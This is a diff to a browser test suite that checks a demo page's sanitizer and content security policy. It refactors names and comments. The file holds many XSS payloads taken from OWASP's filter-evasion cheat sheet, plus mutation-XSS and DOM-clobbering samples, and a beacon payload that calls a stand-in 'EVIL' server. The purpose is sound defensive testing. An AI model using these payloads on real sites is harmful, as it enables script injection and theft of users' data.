@@ -1,16 +1,16 @@
-// Pages that attack whoever looks at them do nothing in any view of the demo page.
+// Malicious pages cannot run scripts or load anything in any view of the demo page.
 import assert from 'node:assert/strict';
 import test, { after, before } from 'node:test';
 import { launch } from './chromium.mjs';
 import { noProblems, openDemo, paste, serve } from './demo-support.mjs';
 
 /**
- * What an attack does if it runs, in the place of `RUN`: it marks all windows that it can reach, and
- * calls home. `EVIL` is a server that listens.
+ * The payload that replaces `RUN` in each attack: it sets a flag on all windows that it can reach and
+ * sends a request. `EVIL` is replaced by the origin of a server that records requests.
  */
 const RUN = `try{top.ran=1}catch(e){};try{parent.ran=1}catch(e){};window.ran=1;new Image().src='EVIL/ran'`;
 
-// After OWASP's cheat sheet for evading XSS filters.
+// Based on OWASP's cheat sheet on XSS filter evasion.
 const CLASSIC = [
   `<script>RUN</script>`, `<SCRIPT SRC=EVIL/x.js></SCRIPT>`, `<<SCRIPT>RUN//<</SCRIPT>`, `<script/x>RUN</script>`,
   `<script type=module>RUN</script>`, `<svg><script>RUN</script></svg>`, `<svg><script href=EVIL/x.js></script></svg>`,
@@ -49,8 +49,8 @@ const CLASSIC = [
   `<?xml-stylesheet href="javascript:RUN"?>`, `<!--[if gte IE 4]><script>RUN</script><![endif]-->`,
 ];
 
-// What changes its meaning when it is written out and read again, and what hides the methods that
-// a cleaner calls.
+// Mutation XSS: HTML whose meaning changes when it is serialized and parsed again. DOM clobbering:
+// names that shadow the methods that a sanitizer calls.
 const MUTANT = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='RUN'&gt;">`,
   `<svg></p><style><a id="</style><img src=x onerror='RUN'>">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="RUN">`,
@@ -73,7 +73,7 @@ const story = (attacks) => `<!doctype html><title>&lt;img src=x onerror=RUN&gt; 
   <article><h1>&lt;img src=x onerror=RUN&gt; The river</h1>${attacks.map((attack) => `<div><p>${PROSE}${attack}</p></div>\n<p>${PROSE}</p>`).join('\n')}
   <p>&lt;img src=x onerror=RUN&gt; ${PROSE}</p><pre>&lt;script&gt;RUN&lt;/script&gt; ${PROSE}</pre></article>`.replaceAll('RUN', RUN.replaceAll("'", '&#39;')).replaceAll('EVIL', evil.origin);
 
-/** The same, with the code as scripts read it: entities mean nothing in a script element. */
+/** The same without character references in the payload, which script elements do not decode. */
 const raw = (attacks) => story(attacks).replaceAll('&#39;', "'");
 
 let site, evil, browser;
@@ -90,8 +90,8 @@ after(async () => {
   evil?.close();
 });
 
-/** Opens the demo, and gathers what an attack would set off. */
-async function watched() {
+/** Opens the demo, and records dialogs, popups and navigations. */
+async function openWatchedDemo() {
   const opened = await openDemo(browser, site.demo);
   const { page } = opened;
   const found = [];
@@ -102,16 +102,16 @@ async function watched() {
   return { ...opened, found };
 }
 
-/** Shows a page in all views, touches everything in them, and returns how they stand. */
+/** Shows a page in all views, triggers events on every element, and returns the resulting state. */
 async function expose(page, html) {
   await paste(page, html);
   const elements = await page.evaluate(async () => {
     const frame = document.querySelector('iframe').contentDocument;
     let count = 0;
-    for (const root of [frame, document.querySelector('#reader article'), document.querySelector('#output')]) {
+    for (const root of [frame, document.querySelector('#article-view article'), document.querySelector('#output-view')]) {
       for (const element of root.querySelectorAll('*')) {
         count += 1;
-        if (element.matches('.download, .copy, #reader a[href]')) continue;
+        if (element.matches('.download, .copy, #article-view a[href]')) continue;
         for (const type of ['pointerover', 'mouseover', 'mouseenter', 'focus', 'toggle', 'animationstart', 'load', 'error']) {
           element.dispatchEvent(new Event(type));
         }
@@ -122,7 +122,7 @@ async function expose(page, html) {
     return count;
   });
   for (const tab of ['html', 'text', 'json', 'markdown']) await page.click(`#tab-${tab}`);
-  await page.focus('#chart');
+  await page.focus('#overview');
   for (const key of ['End', 'ArrowLeft', 'Home', 'ArrowRight']) await page.keyboard.press(key);
   await page.waitForTimeout(150);
   const state = await page.evaluate(() => {
@@ -134,19 +134,19 @@ async function expose(page, html) {
       cookie: document.cookie,
       active: all.filter((element) => /^(?:script|object|embed|base|meta|link|frame|animate|set)$/i.test(element.localName) && element.id !== 'own').map((element) => element.outerHTML),
       handlers: all.flatMap((element) => [...element.attributes].filter(({ name }) => /^on/i.test(name)).map(({ name }) => name)),
-      lures: views.flatMap((view) => [...view.querySelectorAll('[href], [src], [action], [formaction]')])
+      unsafeUrls: views.flatMap((view) => [...view.querySelectorAll('[href], [src], [action], [formaction]')])
         .flatMap((element) => ['href', 'src', 'action', 'formaction'].map((name) => element.getAttribute(name)))
         .filter((value) => value && /^\s*(?:javascript|vbscript|data:text)/i.test(value)),
-      address: location.pathname,
+      path: location.pathname,
     };
   });
   return { state, elements };
 }
 
-const harmless = ({ found, problems }, state, name) => {
+const assertHarmless = ({ found, problems }, state, name) => {
   assert.deepEqual([...found, ...evil.requests], [], name);
-  assert.deepEqual(state, { ran: [], cookie: '', active: [], handlers: [], lures: [], address: '/some/where/' }, name);
-  // Styles and pictures that the frame's own rules stop are reported; nothing else is.
+  assert.deepEqual(state, { ran: [], cookie: '', active: [], handlers: [], unsafeUrls: [], path: '/some/where/' }, name);
+  // The console may only report styles and images that the frame's policy blocked.
   const others = problems.filter((text) => !/violates the following Content Security Policy directive: "?(?:style-src|img-src|font-src|default-src)/.test(text));
   assert.deepEqual(others, [], name);
 };
@@ -161,34 +161,34 @@ test('the attacks would run in a page that trusts them', async () => {
   await page.close();
 });
 
-test('attacks from the cheat sheets, all on one page', async () => {
-  const watch = await watched();
+test('classic XSS attacks, all on one page', async () => {
+  const demo = await openWatchedDemo();
   for (const html of [story(CLASSIC), raw(CLASSIC)]) {
-    const { state, elements } = await expose(watch.page, html);
+    const { state, elements } = await expose(demo.page, html);
     assert.ok(elements > 200);
-    harmless(watch, state, 'classic');
+    assertHarmless(demo, state, 'classic');
   }
-  await watch.close();
+  await demo.close();
 });
 
-test('attacks from the cheat sheets, a few on each page', async () => {
-  const watch = await watched();
+test('classic XSS attacks, five per page', async () => {
+  const demo = await openWatchedDemo();
   for (let i = 0; i < CLASSIC.length; i += 5) {
     const attacks = CLASSIC.slice(i, i + 5);
-    harmless(watch, (await expose(watch.page, raw(attacks))).state, `${attacks}`);
+    assertHarmless(demo, (await expose(demo.page, raw(attacks))).state, `${attacks}`);
   }
-  await watch.close();
+  await demo.close();
 });
 
-test('attacks that change when they are read again, one page each', async () => {
-  const watch = await watched();
+test('mutation XSS and DOM clobbering, one attack per page', async () => {
+  const demo = await openWatchedDemo();
   for (const attack of MUTANT) {
-    for (const html of [story([attack]), raw([attack])]) harmless(watch, (await expose(watch.page, html)).state, attack);
+    for (const html of [story([attack]), raw([attack])]) assertHarmless(demo, (await expose(demo.page, html)).state, attack);
   }
-  await watch.close();
+  await demo.close();
 });
 
-test('a page of frames, a page that is no HTML, and one that is only an attack', async () => {
+test('a frameset, input that is not HTML, and pages that are only an attack', async () => {
   for (const html of [
     raw([]).replace('<article>', '<frameset><frame src="javascript:RUN"></frameset><article>'), `\u0000\ufffe${'\ud800'.repeat(10)}<p>${PROSE}`,
     `<script>${RUN}</script>`, `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN.replaceAll('"', '')}">`, '<html><head><meta http-equiv=refresh content=0>',
@@ -202,7 +202,7 @@ test('a page of frames, a page that is no HTML, and one that is only an attack',
   }
 });
 
-test('the page itself is under a strict policy', async () => {
+test('the demo page has a strict content security policy', async () => {
   const { page, close } = await openDemo(browser, site.demo);
   const policy = await page.getAttribute('meta[http-equiv=content-security-policy]', 'content');
   assert.match(policy, /default-src 'none'/);
